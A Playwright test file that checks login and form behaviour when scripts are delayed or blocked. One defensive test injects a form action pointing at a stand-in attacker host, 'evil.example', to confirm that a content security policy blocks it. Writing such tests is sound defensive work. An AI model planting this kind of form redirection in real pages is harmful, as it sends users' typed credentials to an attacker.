/** Forms that are sent before their script is there, or without it: nothing leaves the browser, nothing typed is lost. */
import { ownPages } from '../tools/build/own-pages.ts';
import { changePage } from './change-page.ts';
import { expect, test } from './fixtures.ts';
import { hold } from './hold.ts';
import { expectSilentForms, recordRequests, sendEveryForm } from './judge-page.ts';
import { IndexPage } from './pages/index-page.ts';
import { LoginPage } from './pages/login-page.ts';
import { ada } from './people.ts';

test('Ada presses Enter before the script of login has come: it stays typed, and she signs in once it is there', async ({
  page,
  pool,
}) => {
  await pool.addUser(ada);
  const release = await hold(page, /\/login-\w+\.js$/);
  await page.goto('/login.html', { waitUntil: 'commit' });
  const login = new LoginPage(page);
  await login.field('Email address').fill(ada.email);
  await login.field('Password').fill(ada.password);
  const requests = recordRequests(page);
  await login.field('Password').press('Enter');
  await expect(login.field('Password')).toHaveValue(ada.password);
  expect(requests).toEqual([]);
  release();
  await page.waitForLoadState('domcontentloaded');
  await expect(login.field('Email address')).toHaveValue(ada.email);
  await login.button('Sign in').click();
  await new IndexPage(page).shown('Ada');
});

test.describe('with every script blocked', () => {
  test.use({ expectedErrors: /ERR_BLOCKED_BY_CLIENT/ });

  test('no form of any page sends anything, however it is sent', async ({ page }) => {
    test.slow();
    for (const name of ownPages) await test.step(name, () => expectSilentForms(page, `/${name}`));
  });
});

test.describe('a form that nobody built', () => {
  test.use({ expectedErrors: /form-action|ERR_BLOCKED_BY_CLIENT/ });

  test('is stopped by the policy, whatever it says itself', async ({ page, site, problems }) => {
    const address = await changePage(site.folder, 'login.html', (html) =>
      html.replace('method="dialog"', 'method="post" action="https://evil.example/"'),
    );
    await page.route(/\.js$/, (route) => route.abort('blockedbyclient'));
    await page.goto(address);
    const requests = recordRequests(page);
    await sendEveryForm(page);
    await expect.poll(() => problems.join('\n')).toContain("form-action 'none'");
    expect(requests).toEqual([]);
  });
});
